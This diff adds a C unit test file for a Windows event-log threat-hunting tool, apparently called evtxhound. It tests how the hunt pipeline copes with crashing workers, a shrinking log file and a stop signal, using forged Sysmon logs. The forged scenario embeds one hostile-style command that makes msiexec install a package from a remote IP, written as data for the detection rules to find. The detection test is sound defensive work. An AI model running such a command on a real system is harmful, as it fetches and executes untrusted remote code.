@@ -1,0 +1,277 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* The run when things die under it: workers, files, signals. The logs are forged. */
+#include "testing.h"
+
+#include <dirent.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "evtxhound/evtx.h"
+#include "evtxhound/forge.h"
+#include "evtxhound/pipeline.h"
+
+static const char scenario[] =
+	"start: 2026-01-05T08:00:00Z\n"
+	"seed: 1\n"
+	"hosts:\n"
+	"  A: {name: a.example, domain: EX, log: sysmon}\n"
+	"users:\n"
+	"  u: {domain: EX, sid: S-1-5-21-1-2-3-1001, logon: 0x1234}\n"
+	"processes:\n"
+	"  - {name: p, host: A, image: 'C:\\Windows\\System32\\cmd.exe', user: u, at: 5m,\n"
+	"     command: 'cmd.exe /c msiexec /i http://203.0.113.9/a.msi'}\n"
+	"noise:\n"
+	"  - {host: A, user: u, processes: 600, from: 0m, to: 60m}\n";
+#define LOG_NAME "A/Microsoft-Windows-Sysmon%4Operational.evtx"
+
+struct fixture {
+	char dir[64];
+	char log[160];
+	int dirfd;
+	unsigned long records; /* in the log */
+	struct ruleset rules;
+	struct source_list sources;
+	struct hunt_options options;
+	struct hunt *hunt;
+	struct timeline *timeline;
+	struct run run;
+	struct err e;
+};
+
+static int set_up(void **state)
+{
+	struct fixture *x = calloc(1, sizeof(*x));
+	struct buf made;
+	char rules[4096];
+	strcpy(x->dir, "/tmp/evtxhound-run.XXXXXX");
+	assert_non_null(mkdtemp(x->dir));
+	x->dirfd = open(x->dir, O_RDONLY | O_DIRECTORY);
+	buf_init(&made, 0);
+	if (forge_scenario(view_str(scenario), "test", x->dirfd, &made, &x->e) < 0)
+		fail_msg("%s", x->e.msg);
+	buf_byte(&made, 0);
+	x->records = strtoul(strchr((const char *)made.p, ':') + 1, NULL, 10);
+	buf_release(&made);
+	snprintf(x->log, sizeof(x->log), "%s/%s", x->dir, LOG_NAME);
+	snprintf(rules, sizeof(rules), "%s/rules", getenv("SRCDIR") ? getenv("SRCDIR") : ".");
+	assert_int_equal(ruleset_init(&x->rules, &x->e), 0);
+	assert_int_equal(ruleset_add(&x->rules, rules, &x->e), 0);
+	assert_int_equal(ruleset_finish(&x->rules, &x->e), 0);
+	source_list_init(&x->sources);
+	assert_int_equal(source_list_add(&x->sources, x->log, &x->e), 0);
+	x->options = (struct hunt_options){.rules = &x->rules, .sources = &x->sources, .jobs = 2,
+					   .hash = true, .to = UINT64_MAX, .dirfd = x->dirfd};
+	*state = x;
+	return 0;
+}
+
+static int tear_down(void **state)
+{
+	struct fixture *x = *state;
+	char path[256];
+	hunt_free(x->hunt);
+	source_list_release(&x->sources);
+	ruleset_release(&x->rules);
+	close(x->dirfd);
+	unlink(x->log);
+	snprintf(path, sizeof(path), "%s/A", x->dir);
+	rmdir(path);
+	snprintf(path, sizeof(path), "%s/died", x->dir);
+	unlink(path);
+	assert_int_equal(rmdir(x->dir), 0); /* nothing else was left behind */
+	free(x);
+	return 0;
+}
+
+static int run(struct fixture *x)
+{
+	return hunt_run(&x->options, &x->hunt, &x->run, &x->timeline, &x->e);
+}
+
+static const struct damage *damage_of(const struct fixture *x, const char *kind)
+{
+	const struct source_result *r = &x->run.sources[0];
+	for (size_t i = 0; i < r->n_damage; i++)
+		if (!strcmp(r->damage[i].kind, kind))
+			return &r->damage[i];
+	return NULL;
+}
+
+/* ---- a decoder that does something at its third chunk ---- */
+
+#define FATAL_CHUNK (EVTX_HEADER_SIZE + 2u * EVTX_CHUNK_SIZE)
+
+struct double_decoder {
+	struct decoder base;
+	struct decoder *real;
+	struct decoder_ops ops;
+};
+/* Where the double finds what it does: set before the workers are forked. */
+static void (*misfortune)(void);
+static const char *once_path;
+static const char *shrink_path;
+
+static struct decoder *real_of(struct decoder *d)
+{
+	return ((struct double_decoder *)d)->real;
+}
+
+static int double_chunk(struct decoder *d, struct view bytes, uint64_t offset, struct err *e)
+{
+	if (offset == FATAL_CHUNK)
+		misfortune();
+	return real_of(d)->ops->chunk(real_of(d), bytes, offset, e);
+}
+
+static int double_next(struct decoder *d, struct record *r, struct err *e)
+{
+	return real_of(d)->ops->next(real_of(d), r, e);
+}
+
+static int double_head(struct decoder *d, struct record *r, struct event *ev, struct err *e)
+{
+	return real_of(d)->ops->head(real_of(d), r, ev, e);
+}
+
+static int double_data(struct decoder *d, struct record *r, struct event *ev, struct err *e)
+{
+	return real_of(d)->ops->data(real_of(d), r, ev, e);
+}
+
+static void double_summary(struct decoder *d, struct chunk_summary *s)
+{
+	real_of(d)->ops->summary(real_of(d), s);
+}
+
+static void double_destroy(struct decoder *d)
+{
+	real_of(d)->ops->destroy(real_of(d));
+	free(d);
+}
+
+static struct decoder *double_new(const struct fields *f, damage_fn *fn, void *ctx)
+{
+	struct double_decoder *d = calloc(1, sizeof(*d));
+	d->ops = (struct decoder_ops){"double",    double_chunk,   double_next,   double_head,
+				      double_data, double_summary, double_destroy};
+	d->base.ops = &d->ops;
+	d->real = evtx_decoder_new(f, fn, ctx);
+	return &d->base;
+}
+
+static void die(void)
+{
+	raise(SIGKILL);
+}
+
+static void die_once(void)
+{
+	int fd = open(once_path, O_CREAT | O_EXCL | O_WRONLY, 0600);
+	if (fd >= 0)
+		raise(SIGKILL);
+}
+
+static void give_up(void)
+{
+	_exit(9);
+}
+
+static void shrink(void)
+{
+	if (truncate(shrink_path, FATAL_CHUNK + 1000))
+		_exit(8);
+}
+
+/* ---- the tests ---- */
+
+static void undisturbed(void **state)
+{
+	struct fixture *x = *state;
+	assert_int_equal(run(x), 0);
+	assert_int_equal(x->run.n_findings, 1);
+	assert_int_equal(x->run.exit_code, 1);
+	assert_true(x->run.sources[0].chunks > 4);
+	assert_true(x->sources.v[0].hashed);
+	assert_int_equal(x->run.worker_deaths, 0);
+	assert_true(view_eq_str(x->run.findings[0].evidence[0].proof->witness, "agree"));
+}
+
+static void disturbed(struct fixture *x, void (*what)(void), uint64_t deaths)
+{
+	char once[128];
+	snprintf(once, sizeof(once), "%s/died", x->dir);
+	misfortune = what;
+	once_path = once;
+	shrink_path = x->log;
+	x->options.decoder_new = double_new;
+	if (run(x) < 0)
+		fail_msg("%s", x->e.msg);
+	assert_int_equal(x->run.worker_deaths, deaths);
+	assert_int_equal(x->run.sources[0].worker_deaths, deaths);
+}
+
+static void a_worker_that_dies_once_costs_nothing(void **state)
+{
+	struct fixture *x = *state;
+	disturbed(x, die_once, 1);
+	assert_int_equal(x->run.sources[0].records, x->records);
+	assert_int_equal(x->run.n_findings, 1);
+	assert_int_equal(x->run.exit_code, 1);
+	assert_true(x->sources.v[0].hashed);
+}
+
+static void a_chunk_that_kills_costs_itself(void **state)
+{
+	struct fixture *x = *state;
+	disturbed(x, die, 2);
+	const struct damage *d = damage_of(x, "worker");
+	assert_non_null(d);
+	assert_int_equal(d->offset, FATAL_CHUNK);
+	assert_non_null(strstr(d->what, "signal 9"));
+	assert_in_range(x->records - x->run.sources[0].records, 1, 200); /* one chunk's */
+	assert_int_equal(x->run.exit_code, 3);
+	assert_true(x->sources.v[0].hashed);
+}
+
+static void a_worker_that_ends_costs_the_same(void **state)
+{
+	struct fixture *x = *state;
+	disturbed(x, give_up, 2);
+	assert_non_null(strstr(damage_of(x, "worker")->what, "status 9"));
+}
+
+static void a_file_that_shrinks_is_told(void **state)
+{
+	struct fixture *x = *state;
+	disturbed(x, shrink, 0);
+	const struct damage *d = damage_of(x, "shrunk");
+	assert_non_null(d);
+	assert_non_null(damage_of(x, "changed"));
+	assert_true(x->sources.v[0].changed);
+	assert_false(x->sources.v[0].hashed);
+	assert_int_equal(x->run.exit_code, 3);
+}
+
+static void a_signal_ends_it(void **state)
+{
+	struct fixture *x = *state;
+	volatile sig_atomic_t stop = 1;
+	x->options.stop = &stop;
+	assert_int_equal(run(x), -1);
+	assert_int_equal(x->e.code, ERR_INTERRUPTED);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test_setup_teardown(undisturbed, set_up, tear_down),
+		cmocka_unit_test_setup_teardown(a_worker_that_dies_once_costs_nothing, set_up, tear_down),
+		cmocka_unit_test_setup_teardown(a_chunk_that_kills_costs_itself, set_up, tear_down),
+		cmocka_unit_test_setup_teardown(a_worker_that_ends_costs_the_same, set_up, tear_down),
+		cmocka_unit_test_setup_teardown(a_file_that_shrinks_is_told, set_up, tear_down),
+		cmocka_unit_test_setup_teardown(a_signal_ends_it, set_up, tear_down),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
